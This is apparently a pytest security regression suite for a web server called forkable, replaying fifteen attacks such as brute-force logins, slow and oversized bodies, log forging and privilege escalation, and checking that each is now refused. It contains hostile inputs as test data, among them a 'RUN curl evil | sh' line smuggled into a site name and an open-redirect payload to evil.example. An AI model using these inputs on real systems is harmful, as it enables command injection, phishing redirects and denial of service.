"""The fifteen attacks of the hardening review, each sent to a real `forkable serve`.

One server with two sites (real argon2 hashing, text logs, a short body deadline, a webhook
secret per site) takes the request-borne attacks in turn; the operator-side ones run the CLI as
an operator would. Each test names the attack it replays; the focused tests of each fix live
beside its module, these prove the whole server holds.
"""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import socket
import statistics
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import Page, Route
from tests.conftest import EXAMPLES
from tests.factories import photo_bytes
from tests.serving import Server, run_async, serve
from tests.support.smtp import KeepLogins, smtp_server

from forkable.testing.fake_stripe import FakeStripe

pytestmark = pytest.mark.slow

PASSWORD = "correct horse battery"
SITE_A = "coloringbook.localhost"
SITE_B = "pencilsketch.localhost"
FORKABLE = (sys.executable, "-m", "forkable")
SECRETS = {"coloringbook": "whsec_attack_coloringbook", "pencilsketch": "whsec_attack_pencil"}


def _rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    raise RuntimeError("no VmRSS")


class PeakMemory:
    """The highest resident size of a process while the block runs, sampled every 20 ms."""

    def __init__(self, pid: int) -> None:
        self.pid = pid
        self.idle = _rss_mb(pid)
        self.peak = self.idle
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._sample, daemon=True)

    def _sample(self) -> None:
        while not self._stop.wait(0.02):
            self.peak = max(self.peak, _rss_mb(self.pid))

    def __enter__(self) -> PeakMemory:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()


@pytest.fixture(scope="module")
def sites(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("attack-sites")
    for name in ("coloringbook", "pencilsketch"):
        shutil.copytree(EXAMPLES / name, folder / name)
    return folder


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("attack") / "var"


@pytest.fixture(scope="module")
def server(sites: Path, data_dir: Path) -> Iterator[Server]:
    env = {
        "FORKABLE_LOG_FORMAT": "text",
        "FORKABLE_BODY_TIMEOUT_SECONDS": "2",
        "FORKABLE_WORKERS": "1",
        "STRIPE_WEBHOOK_SECRET__COLORINGBOOK": SECRETS["coloringbook"],
        "STRIPE_WEBHOOK_SECRET__PENCILSKETCH": SECRETS["pencilsketch"],
    }
    with serve(sites, data_dir, env=env) as running:
        yield running


def _client(server: Server, host: str = SITE_A, address: str | None = None) -> httpx.Client:
    # The server trusts loopback (the default FORKABLE_TRUSTED_PROXIES), so a test may speak
    # for clients at other addresses as a proxy would.
    headers = {"host": host}
    if address:
        headers["x-forwarded-for"] = address
    return httpx.Client(base_url=server.url, headers=headers, timeout=60)


def _sign_up(client: httpx.Client, email: str) -> str:
    response = client.post("/api/v1/auth/signup", json={"email": email, "password": PASSWORD})
    assert response.status_code == 201, response.text
    token: str = response.json()["csrf_token"]
    return token


def _email() -> str:
    return f"{uuid.uuid4().hex[:12]}@example.com"


def test_01_a_long_url_does_not_stall_other_requests(server: Server) -> None:
    path = "/" + "a" * 60_000 + "@"
    waits: list[float] = []

    def attack() -> None:
        with _client(server) as client:
            for _ in range(3):
                client.get(path)

    attacker = threading.Thread(target=attack)
    attacker.start()
    with _client(server) as client:
        while attacker.is_alive():
            started = time.perf_counter()
            assert client.get("/healthz").status_code == 200
            waits.append(time.perf_counter() - started)
            time.sleep(0.01)
    attacker.join()
    assert waits
    # Before: one such request kept /healthz waiting 6.9 s.
    assert statistics.median(waits) < 0.2, waits
    assert max(waits) < 1.0, waits


def test_02_parallel_wrong_passwords_are_counted_and_bounded(server: Server) -> None:
    email = _email()
    with _client(server) as client:
        _sign_up(client, email)
    start = threading.Barrier(30)

    def guess(_: int) -> int:
        with _client(server, address="203.0.113.7") as client:
            start.wait()
            response = client.post(
                "/api/v1/auth/login", json={"email": email, "password": "wrong password 1"}
            )
            return response.status_code

    with PeakMemory(server.process.pid) as memory, ThreadPoolExecutor(30) as pool:
        statuses = list(pool.map(guess, range(30)))
    # Before: all 30 were checked (401), and memory rose by 1.6 GB.
    assert statuses.count(401) <= 5, statuses
    assert set(statuses) <= {401, 429, 503}, statuses
    assert memory.peak - memory.idle < 300, (memory.idle, memory.peak)


def test_03_throttles_do_not_lock_out_the_owner_or_another_site(server: Server) -> None:
    email = _email()
    with _client(server, address="198.51.100.10") as owner:
        _sign_up(owner, email)
    with _client(server, host=SITE_B, address="203.0.113.9") as neighbour:
        _sign_up(neighbour, (other := _email()))
    with _client(server, address="203.0.113.9") as attacker:
        for _ in range(25):
            attacker.post("/api/v1/auth/login", json={"email": email, "password": "not it 1234"})
        refused = attacker.post("/api/v1/auth/login", json={"email": email, "password": PASSWORD})
        assert refused.status_code == 429
    # Before: five failures locked the account for everyone, and the address on every site.
    with _client(server, address="198.51.100.10") as owner:
        login = owner.post("/api/v1/auth/login", json={"email": email, "password": PASSWORD})
        assert login.status_code == 200, login.text
    with _client(server, host=SITE_B, address="203.0.113.9") as neighbour:
        login = neighbour.post("/api/v1/auth/login", json={"email": other, "password": PASSWORD})
        assert login.status_code == 200, login.text


def test_04_bodies_are_capped_and_must_arrive_in_time(server: Server) -> None:
    def huge() -> Iterator[bytes]:
        chunk = b"x" * (1 << 20)
        for _ in range(100):
            yield chunk

    with PeakMemory(server.process.pid) as memory, _client(server) as client:
        try:
            response = client.post(
                "/api/v1/auth/login",
                content=huge(),
                headers={"content-type": "application/json"},
            )
            assert response.status_code == 413
        except httpx.TransportError:
            pass  # refused and closed before the whole body was sent: as good
    # Before: a 100 MB login body raised memory from 142 to 458 MB.
    assert memory.peak - memory.idle < 50, (memory.idle, memory.peak)

    host, port = urlsplit(server.url).hostname, urlsplit(server.url).port
    assert host is not None and port is not None
    with socket.create_connection((host, port), timeout=10) as sock:
        sock.sendall(
            b"POST /api/v1/auth/login HTTP/1.1\r\nHost: " + SITE_A.encode() + b"\r\n"
            b"Content-Type: application/json\r\nContent-Length: 500000000\r\n\r\n"
        )
        started = time.monotonic()
        answer = b""
        while chunk := sock.recv(4096):  # the server answers, then closes
            answer += chunk
        # Before: held open for as long as the client liked.
        assert time.monotonic() - started < 8
    assert answer.split(b"\r\n", 1)[0] in (
        b"HTTP/1.1 408 Request Timeout",
        b"HTTP/1.1 413 Request Entity Too Large",
    )


def test_05_sign_ups_with_a_taken_address_are_throttled(server: Server) -> None:
    email = _email()
    with _client(server, address="203.0.113.50") as client:
        _sign_up(client, email)
        statuses = [
            client.post(
                "/api/v1/auth/signup", json={"email": email, "password": PASSWORD}
            ).status_code
            for _ in range(15)
        ]
    # Before: 15 x 409, each an argon2 hash.
    assert 429 in statuses, statuses
    assert set(statuses) <= {409, 429}, statuses


def test_07_a_burst_of_submits_starts_only_the_per_minute_limit(server: Server) -> None:
    photo = photo_bytes(size=64)

    async def burst() -> list[int]:
        async with httpx.AsyncClient(
            base_url=server.url, headers={"host": SITE_A}, timeout=60
        ) as client:
            signup = await client.post(
                "/api/v1/auth/signup", json={"email": _email(), "password": PASSWORD}
            )
            csrf = signup.json()["csrf_token"]
            await _buy(client, csrf)
            requests = [
                client.post(
                    "/api/v1/generations",
                    files={"image": ("p.jpg", photo, "image/jpeg")},
                    headers={"x-csrf-token": csrf},
                )
                for _ in range(12)
            ]
            return [r.status_code for r in await asyncio.gather(*requests)]

    statuses = run_async(burst())
    # Before: all 12 accepted with a limit of 6.
    assert sorted(statuses) == [202] * 6 + [429] * 6, statuses


async def _buy(client: httpx.AsyncClient, csrf: str) -> None:
    headers = {"x-csrf-token": csrf}
    bought = await client.post("/api/v1/checkout", json={"pack_id": "starter"}, headers=headers)
    assert bought.status_code == 201, bought.text
    purchase = bought.json()["purchase_id"]
    paid = await client.post(f"/api/v1/demo/purchases/{purchase}/complete", headers=headers)
    assert paid.status_code == 200, paid.text


def _make_admin(data_dir: Path, email: str) -> None:
    done = subprocess.run(
        [
            *FORKABLE,
            "users",
            "create",
            email,
            "--site",
            "coloringbook",
            "--admin",
            "--password-stdin",
        ],
        input=PASSWORD + "\n",
        env={**os.environ, "FORKABLE_DATA_DIR": str(data_dir)},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr


def test_08_an_api_key_cannot_make_keys_or_act_as_admin(server: Server, data_dir: Path) -> None:
    email = _email()
    _make_admin(data_dir, email)
    with _client(server) as admin:
        login = admin.post("/api/v1/auth/login", json={"email": email, "password": PASSWORD})
        csrf = login.json()["csrf_token"]
        made = admin.post("/api/v1/api-keys", json={"name": "ci"}, headers={"x-csrf-token": csrf})
        assert made.status_code == 201, made.text
        user_id = login.json()["user"]["id"]
    bearer = {"authorization": f"Bearer {made.json()['key']}"}
    with _client(server) as script:
        # Before: a key made more keys (outliving its revocation) and granted tokens.
        more = script.post("/api/v1/api-keys", json={"name": "spare"}, headers=bearer)
        assert more.status_code == 403
        assert more.json()["error"]["code"] == "session_required"
        grant = script.post(
            f"/api/v1/admin/users/{user_id}/grant",
            json={"amount": 1000, "reason": "free"},
            headers=bearer,
        )
        assert grant.status_code == 403
        assert script.get("/api/v1/me", headers=bearer).json()["balance"] == 0


def test_09_huge_admin_numbers_are_refused_not_crashed_on(server: Server, data_dir: Path) -> None:
    email = _email()
    _make_admin(data_dir, email)
    with _client(server) as admin:
        admin.post("/api/v1/auth/login", json={"email": email, "password": PASSWORD})
        for path in (f"/api/v1/admin/users?page={2**70}", f"/api/v1/admin/users/{2**70}"):
            response = admin.get(path)
            # Before: 500.
            assert response.status_code == 422, (path, response.text)
            assert response.json()["error"]["code"]


def test_10_a_newline_in_the_site_name_is_refused_by_check(tmp_path: Path) -> None:
    site = tmp_path / "site"
    shutil.copytree(EXAMPLES / "coloringbook", site)
    manifest = site / "site.toml"
    text = manifest.read_text()
    manifest.write_text(
        text.replace('name = "ColoringBook AI"', 'name = "ColoringBook\\nRUN curl evil | sh"')
    )
    done = subprocess.run(
        [*FORKABLE, "check", str(site)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    # Before: accepted, and the line reached the generated Dockerfile.
    assert done.returncode == 1
    assert f"{manifest}:" in done.stdout + done.stderr
    assert "site.name" in done.stdout + done.stderr


def test_11_text_logs_cannot_be_forged(server: Server) -> None:
    marker = f"FORGED-{uuid.uuid4().hex[:8]}"
    with _client(server) as client:
        client.get(f"/x%0a{marker}%20INFO%20all%20good%0d%1b[2J")
    deadline = time.monotonic() + 10
    log = ""
    while marker not in log and time.monotonic() < deadline:
        time.sleep(0.1)
        log = server.log.read_text(errors="replace")
    assert marker in log
    # Before: the marker began a line of its own.
    assert not any(line.startswith(marker) for line in log.splitlines())
    assert "\x1b" not in log


def test_12_production_refuses_short_operator_tokens(tmp_path: Path) -> None:
    env = {
        **os.environ,
        "FORKABLE_ENV": "production",
        "FORKABLE_DATA_DIR": str(tmp_path / "var"),
        "FORKABLE_DATABASE_URL": f"sqlite:///{tmp_path / 'db.sqlite3'}",
        "STRIPE_SECRET_KEY": "sk_live_x",
        "STRIPE_WEBHOOK_SECRET": "whsec_x",
        "FORKABLE_METRICS_TOKEN": "short",
        "CRON_SECRET": "also-short",
    }
    done = subprocess.run(
        [*FORKABLE, "serve", str(EXAMPLES / "coloringbook"), "--port", "9"],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    said = done.stdout + done.stderr
    # Before: any token of any length was accepted.
    assert done.returncode != 0
    assert "FORKABLE_METRICS_TOKEN is too short" in said
    assert "CRON_SECRET is too short" in said
    assert "Traceback" not in said


def test_13_alert_mail_never_logs_in_without_tls(tmp_path: Path) -> None:
    logins = KeepLogins("alerts", "s3cret-password")
    with smtp_server(logins=logins) as (url, received):
        host_port = url.removeprefix("smtp://")
        env = {
            **os.environ,
            "FORKABLE_DATA_DIR": str(tmp_path / "var"),
            "FORKABLE_ALERT_SMTP_URL": f"smtp://alerts:s3cret-password@{host_port}",
            "FORKABLE_ALERT_EMAIL_FROM": "alerts@example.com",
            "FORKABLE_ALERT_EMAIL_TO": "ops@example.com",
        }
        done = subprocess.run(
            [*FORKABLE, "alerts", "test"],
            env=env,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
    # Before: the password went over the wire in clear.
    assert logins.attempts == []
    assert received.received == []
    assert done.returncode != 0
    assert "STARTTLS" in done.stdout + done.stderr


def test_14_remote_deploy_pushes_no_secrets_and_follows_no_links(tmp_path: Path) -> None:
    site = tmp_path / "site"
    shutil.copytree(EXAMPLES / "coloringbook", site)
    (site / ".envrc").write_text("export STRIPE_SECRET_KEY=sk_live_x\n")
    (site / "assets" / "deploy.pem").write_text("-----BEGIN PRIVATE KEY-----\n")
    (site / "assets" / "home").symlink_to(Path.home())
    done = subprocess.run(
        [*FORKABLE, "deploy", str(site), "--target", "github", "--dry-run"],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        cwd=tmp_path,
    )
    said = done.stdout + done.stderr
    assert done.returncode == 0, said
    (skipped,) = [line for line in said.splitlines() if line.startswith("not pushed")]
    # Before: all three were pushed, the link with the whole home directory behind it.
    for name in (".envrc", "assets/deploy.pem", "assets/home/"):
        assert name in skipped


def test_15_each_site_verifies_webhooks_with_its_own_secret(server: Server) -> None:
    event = json.dumps(
        {"id": f"evt_{uuid.uuid4().hex}", "object": "event", "type": "customer.created",
         "data": {"object": {"id": "cus_1", "object": "customer"}}}
    ).encode()  # fmt: skip
    with FakeStripe() as stripe:  # signs as Stripe does
        signed = {
            site: stripe.signature_header(event, secret=secret) for site, secret in SECRETS.items()
        }
    for site, host in (("coloringbook", SITE_A), ("pencilsketch", SITE_B)):
        with _client(server, host=host) as client:
            for signer, header in signed.items():
                response = client.post(
                    "/api/v1/webhooks/stripe",
                    content=event,
                    headers={"stripe-signature": header, "content-type": "application/json"},
                )
                # Before: one secret for the server, so all but one site's webhooks failed.
                expected = 200 if signer == site else 400
                assert response.status_code == expected, (site, signer, response.text)


@pytest.mark.browser
def test_06_next_after_login_never_leaves_the_site(server: Server, page: Page) -> None:
    email = _email()
    with _client(server) as client:
        _sign_up(client, email)
    base = server.url.replace("127.0.0.1", SITE_A)
    # The browser reaches the server as coloringbook.localhost: *.localhost is loopback.
    went_away: list[str] = []

    def evil(route: Route) -> None:
        went_away.append(route.request.url)
        route.fulfill(status=200, content_type="text/html", body="<h1>evil</h1>")

    page.route(lambda url: urlsplit(url).hostname == "evil.example", evil)
    page.goto(f"{base}/login?next=/%09/evil.example")
    page.get_by_label("E-mail").fill(email)
    page.get_by_label("Password", exact=True).fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url(lambda url: "/login" not in url)
    page.wait_for_load_state()
    # Before: the browser dropped the tab and went to //evil.example.
    assert went_away == []
    assert urlsplit(page.url).hostname == SITE_A
